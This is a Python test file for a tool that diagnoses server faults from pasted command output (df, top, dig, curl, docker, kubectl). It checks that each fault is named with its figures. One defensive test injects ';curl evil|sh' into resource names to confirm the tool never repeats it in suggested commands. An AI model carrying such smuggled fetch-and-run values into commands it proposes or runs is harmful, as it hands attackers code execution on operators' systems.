"""What commands print: a fault is named with its numbers, and output in order gives none."""

from __future__ import annotations

from textwrap import dedent

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from tests.unit.diagnosis.inspections import outputs
from tests.unit.diagnosis.inspections.stated import answered, faults, top


@pytest.mark.parametrize("command", outputs.HEALTHY)
def test_output_in_order_gives_no_fault(command: str) -> None:
    report = answered(outputs.HEALTHY[command])
    assert faults(report) == set()
    assert report.verdict in ("no_fault_found", "not_enough_evidence")


def test_all_of_it_in_one_paste_gives_no_fault() -> None:
    report = answered("\n".join(outputs.HEALTHY.values()), question="Is this machine healthy?")
    assert faults(report) == set()
    assert report.verdict == "no_fault_found"


@pytest.mark.parametrize(
    ("command", "words"),
    [
        ("systemctl status", "lantern.service is active (running) since Tue 2031-03-04 08:00:01 UTC"),
        ("df", "/srv/tide data is the fullest, 48 % full"),
        ("df -i", "/srv is the fullest, 39 % of its inodes in use"),
        ("free", "Of 15Gi of memory 8.9Gi is available"),
        ("top", "The CPU is idle 91.5 % of the time"),
        ("ss", "Listened on are the ports 22 (sshd), 80 (nginx), 5432 (postgres)"),
        ("netstat", "Listened on are the ports 22 (sshd), 5432 (postgres)"),
        ("dig", "quay.example resolves to 192.0.2.10"),
        ("curl", "GET /berths is answered with HTTP 200"),
        ("openssl", "verify return code 0"),
        ("docker inspect", "Container lantern is running, with 0 restarts"),
        ("kubectl get nodes", "All 2 nodes listed are ready"),
        ("kubectl get deployments", "All 1 deployments listed are ready"),
    ],
)
def test_output_in_order_is_said_with_its_numbers(command: str, words: str) -> None:
    report = answered(outputs.HEALTHY[command])
    assert report.verdict == "no_fault_found"
    assert words in report.summary


@pytest.mark.parametrize(
    ("command", "before", "after", "fault", "words"),
    [
        (
            "docker ps",
            "Up 2 hours                  5432",
            "Exited (127) 4 minutes ago  5432",
            "command_not_found",
            "tide-db ended with code 127",
        ),
        (
            "docker ps",
            "Up 2 hours                  5432",
            "Exited (137) 4 minutes ago  5432",
            "process_killed",
            "tide-db ended with code 137 (killed (SIGKILL))",
        ),
        (
            "docker ps",
            "Up 2 hours                 ",
            "Restarting (1) 9 secs ago  ",
            "container_exited",
            "restarted again and again",
        ),
        ("docker ps", "(healthy)  ", "(unhealthy)", "container_unhealthy", "lantern is up and fails its health check"),
        ("docker inspect", '"OOMKilled": false', '"OOMKilled": true', "out_of_memory_killed", "its limit is 256 MiB"),
        (
            "docker inspect",
            '"Error": ""',
            '"Error": "exec: lanterne: not found in $PATH"',
            "container_start_failed",
            "lanterne",
        ),
        (
            "docker inspect",
            '"Restarting": false',
            '"Restarting": true',
            "container_exited",
            "restarted again and again",
        ),
        (
            "docker inspect",
            '"Status": "healthy"',
            '"Status": "unhealthy"',
            "container_unhealthy",
            "fails its health check",
        ),
        ("df", "44% /", "97% /", "file_system_nearly_full", "The file system / (/dev/sda1): 97 % of its space is used"),
        ("df", "27G  44% /", "0  100% /", "disk_full", "100 % of its space is used, 0 left"),
        ("df -i", "39% /srv", "100% /srv", "inodes_exhausted", "/srv (/dev/sdb1): 100 % of its inodes"),
        (
            "free",
            "8.9Gi",
            "310Mi",
            "memory_nearly_full",
            "Of 15Gi of memory 310Mi is available (2.0 %), and 50 % of the swap",
        ),
        ("top", "91.5 id", "0.6 id", "cpu_saturated", "The CPU is idle 0.6 % of the time"),
        ("top", "91.5 id,  0.2 wa", "0.6 id,  88.1 wa", "disk_wait", "88.1 % of it waiting for disks"),
        ("top", "0 zombie", "412 zombie", "zombie_processes", "412 processes"),
        (
            "ss",
            "LISTEN   0        511",
            "LISTEN   512      511",
            "listen_queue_full",
            "nginx listens on port 80 and has 512",
        ),
        (
            "dig",
            "status: NOERROR",
            "status: NXDOMAIN",
            "dns_name_not_found",
            "quay.example does not exist (NXDOMAIN), says 10.0.0.2",
        ),
        ("dig", "status: NOERROR", "status: SERVFAIL", "dns_unavailable", "SERVFAIL"),
        ("dig", "status: NOERROR", "status: REFUSED", "dns_query_refused", "REFUSED"),
        ("dig", "ANSWER: 1", "ANSWER: 0", "dns_no_record", "has no A record"),
        (
            "curl",
            "HTTP/1.1 200 OK",
            "HTTP/1.1 502 Bad Gateway",
            "http_upstream_failed",
            "HTTP 502 Bad Gateway to GET /berths from quay.example, answered by nginx/1.26.0",
        ),
        ("curl", "HTTP/1.1 200 OK", "HTTP/2 404 ", "http_not_found", "HTTP 404"),
        ("curl", "HTTP/1.1 200 OK", "HTTP/1.1 500 Internal Server Error", "http_server_error", "HTTP 500"),
        (
            "openssl",
            "code: 0 (ok)",
            "code: 10 (certificate has expired)",
            "certificate_expired",
            "Apr 1 00:00:00 2031 GMT",
        ),
        (
            "openssl",
            "code: 0 (ok)",
            "code: 21 (unable to verify the first certificate)",
            "certificate_not_trusted",
            "quay.example is not accepted",
        ),
        ("openssl", "code: 0 (ok)", "code: 62 (hostname mismatch)", "certificate_name_mismatch", "hostname mismatch"),
        (
            "psql",
            "| idle   | Client          |                 | COMMIT",
            "| active | Lock            | 00:02:11.1      | UPDATE berths SET a = 1",
            "sessions_wait_for_locks",
            "1 of 2 sessions wait",
        ),
        (
            "psql",
            "| idle   | Client          |                 | COMMIT",
            "| idle in transaction | Client | 01:02:11.1 | SELECT 1",
            "transaction_left_open",
            "session 1302",
        ),
        ("kubectl get nodes", "pier-b    Ready   ", "pier-b    NotReady", "node_not_ready", "pier-b is NotReady"),
        ("kubectl get deployments", "3/3 ", "1/3 ", "replicas_missing", "lantern: 1 of 3 replicas are ready"),
        (
            "kubectl get pvc",
            "Bound    pvc-0b1c2d3e-1111-2222-3333-444455556666   10Gi       RWO",
            "Pending                                                               ",
            "claim_not_bound",
            "tide-data is Pending",
        ),
        ("kubectl get hpa", "cpu: 41%/70%   2", "<unknown>/70%  2", "autoscaler_without_metrics", "<unknown>/70%"),
        (
            "kubectl get hpa",
            "cpu: 41%/70%   2         6         3",
            "cpu: 141%/70%  2         6         6",
            "autoscaler_at_maximum",
            "at its most of 6 replicas",
        ),
        ("kubectl top nodes", "66%", "96%", "memory_nearly_full", "pier-b uses 96 % of its memory"),
    ],
)
def test_what_is_wrong_is_named_with_its_numbers(command: str, before: str, after: str, fault: str, words: str) -> None:
    healthy = outputs.HEALTHY[command]
    assert before in healthy
    report = answered(healthy.replace(before, after, 1))
    assert fault in faults(report), report.summary
    assert words in " ".join(reason.text for one in report.hypotheses for reason in one.because)
    assert top(report).fault_id == fault


@pytest.mark.parametrize(("output", "fault", "words"), outputs.FAILING)
def test_what_a_command_says_of_its_failure(output: str, fault: str, words: str) -> None:
    report = answered(output)
    assert top(report).fault_id == fault
    assert words in report.summary + " ".join(reason.text for reason in top(report).because)


def test_a_refused_port_on_which_nothing_listens_by_the_listing() -> None:
    refused = """
    $ curl -v http://localhost:3000/
    *   Trying 127.0.0.1:3000...
    * connect to 127.0.0.1 port 3000 from 127.0.0.1 port 51000 failed: Connection refused
    * Failed to connect to localhost port 3000 after 0 ms: Couldn't connect to server
    """
    report = answered(refused + outputs.SS)
    assert report.verdict == "cause_found"
    assert top(report).fault_id == "nothing_listens"
    assert "the ports that are listened on are 22, 80, 5432" in report.summary
    listened = outputs.SS.replace("0.0.0.0:80 ", "0.0.0.0:3000")
    assert "nothing_listens" not in faults(answered(refused + listened))
    filtered = outputs.SS.replace("ss -ltnp", "ss -ltnp | grep 80")
    assert "nothing_listens" not in faults(answered(refused + filtered))


def test_a_file_system_that_has_room_for_now_is_noted_and_not_blamed() -> None:
    report = answered(outputs.DF.replace("44% /", "91% /"))
    assert report.verdict == "no_fault_found"
    assert "The file system / (/dev/sda1): 91 % of its space is used, 27G left" in report.summary


@pytest.mark.parametrize("command", [name for name in outputs.HEALTHY if name not in ("git", "pip", "npm")])
def test_names_out_of_output_enter_no_command(command: str) -> None:
    names = ("lantern", "tide-db", "quay.example", "pier-b", "/dev/sda1", "tide-data")
    text = outputs.HEALTHY[command]
    for name in names:
        text = text.replace(name, f"{name};curl evil|sh")
    text = (
        text.replace("Up 2 hours", "Exited (1) 1s")
        .replace("NOERROR", "NXDOMAIN")
        .replace("code: 0 (ok)", "code: 10 (x)")
    )
    text = text.replace("3/3", "1/3").replace("44%", "99%").replace("Ready  ", "NotReady").replace("200 OK", "502 Bad")
    report = answered(text)
    told = [step.command or "" for step in report.next_checks] + [step.command or "" for step in report.actions]
    assert not [line for line in told if "evil" in line]
    assert "](" not in report.response.replace("\\](", "")


@settings(max_examples=60, deadline=None)
@given(st.lists(st.sampled_from(sorted(outputs.HEALTHY)), min_size=1, max_size=3), st.data())
def test_output_with_words_torn_out_and_exchanged_still_gets_an_answer_that_can_be_checked(
    commands: list[str], data: st.DataObject
) -> None:
    text = "\n".join(dedent(outputs.HEALTHY[command]) for command in commands)
    words = sorted(set(text.split()))
    for _ in range(data.draw(st.integers(0, 8))):
        text = text.replace(data.draw(st.sampled_from(words)), data.draw(st.sampled_from(words) | st.text(max_size=8)))
    assert answered(text).summary


def test_a_list_of_objects_as_json_is_read_like_the_listing() -> None:
    listed = """
    {
        "apiVersion": "v1",
        "kind": "List",
        "items": [
            {
                "apiVersion": "v1",
                "kind": "Pod",
                "metadata": {"name": "lantern-6c9d7f8b4-x2x9z", "namespace": "harbour", "uid": "a"},
                "status": {
                    "phase": "Running",
                    "containerStatuses": [
                        {
                            "name": "lantern",
                            "ready": false,
                            "restartCount": 14,
                            "state": {"waiting": {"reason": "CrashLoopBackOff"}},
                            "lastState": {"terminated": {"exitCode": 137, "reason": "OOMKilled"}}
                        }
                    ]
                }
            }
        ]
    }
    """
    report = answered(listed)
    assert top(report).fault_id == "out_of_memory_killed"
    assert "lantern-6c9d7f8b4-x2x9z" in report.summary
    assert "after 14 restarts" in " ".join(reason.text for reason in top(report).because)


OBJECT = """
    {
        "apiVersion": "v1",
        "kind": "KIND",
        "metadata": {"name": "lantern", "namespace": "harbour", "uid": "a"},
        "spec": SPEC,
        "status": STATUS
    }
"""


def condition(type_: str, status: str, reason: str = "", message: str = "") -> str:
    return f'{{"type": "{type_}", "status": "{status}", "reason": "{reason}", "message": "{message}"}}'


@pytest.mark.parametrize(
    ("kind", "spec", "status", "fault", "words"),
    [
        (
            "Deployment",
            '{"replicas": 3}',
            '{"observedGeneration": 4, "readyReplicas": 1}',
            "replicas_missing",
            "lantern: 1 of 3 replicas are ready",
        ),
        (
            "DaemonSet",
            "{}",
            '{"observedGeneration": 4, "desiredNumberScheduled": 5, "numberReady": 4}',
            "replicas_missing",
            "lantern: 4 of 5 replicas are ready",
        ),
        (
            "Node",
            "{}",
            '{"conditions": [' + condition("Ready", "Unknown", "NodeStatusUnknown", "Kubelet stopped posting.") + "]}",
            "node_not_ready",
            "Kubelet stopped posting",
        ),
        (
            "PersistentVolumeClaim",
            '{"storageClassName": "fast"}',
            '{"phase": "Pending"}',
            "claim_not_bound",
            "no volume is bound to it (storage class fast)",
        ),
        (
            "HorizontalPodAutoscaler",
            '{"maxReplicas": 6}',
            '{"conditions": [' + condition("ScalingLimited", "True", "TooManyReplicas") + "]}",
            "autoscaler_at_maximum",
            "more than its most of 6 replicas",
        ),
        (
            "Job",
            "{}",
            '{"conditions": [' + condition("Failed", "True", "BackoffLimitExceeded", "It was tried often.") + "]}",
            "job_failed",
            "has failed (BackoffLimitExceeded)",
        ),
    ],
)
def test_an_object_is_judged_by_its_status(kind: str, spec: str, status: str, fault: str, words: str) -> None:
    report = answered(OBJECT.replace("KIND", kind).replace("SPEC", spec).replace("STATUS", status))
    assert top(report).fault_id == fault
    assert words in " ".join(reason.text for reason in top(report).because)


@pytest.mark.parametrize(
    ("kind", "spec", "status"),
    [
        ("Deployment", '{"replicas": 3}', '{"observedGeneration": 4, "readyReplicas": 3}'),
        ("Deployment", '{"replicas": 0}', '{"observedGeneration": 4}'),
        ("Node", "{}", '{"conditions": [' + condition("Ready", "True", "KubeletReady") + "]}"),
        ("PersistentVolumeClaim", "{}", '{"phase": "Bound"}'),
        ("HorizontalPodAutoscaler", "{}", '{"conditions": [' + condition("ScalingActive", "True") + "]}"),
        ("Job", "{}", '{"succeeded": 1, "conditions": [' + condition("Complete", "True") + "]}"),
    ],
)
def test_an_object_in_order_is_no_fault(kind: str, spec: str, status: str) -> None:
    assert faults(answered(OBJECT.replace("KIND", kind).replace("SPEC", spec).replace("STATUS", status))) == set()


def test_a_node_is_judged_by_its_description() -> None:
    report = answered(
        """
        Name:               pier-b
        Roles:              <none>
        Conditions:
          Type             Status  LastHeartbeatTime                 Reason    Message
          ----             ------  -----------------                 ------    -------
          MemoryPressure   False   Tue, 04 Mar 2031 10:00:00 +0000   Enough    enough memory
          Ready            False   Tue, 04 Mar 2031 10:00:00 +0000   NotReady  no network
        Capacity:
          cpu:  4
        Allocatable:
          cpu:  4
        """
    )
    assert top(report).fault_id == "node_not_ready"
    assert "pier-b is not ready: “no network”" in report.summary


def test_a_service_without_endpoints() -> None:
    listed = """
    $ kubectl get endpoints -n harbour
    NAME      ENDPOINTS          AGE
    lantern   <none>             90d
    tide      10.0.0.4:3000      90d
    """
    report = answered(listed)
    assert top(report).fault_id == "service_without_endpoints"
    assert "The service lantern has no endpoint" in report.summary
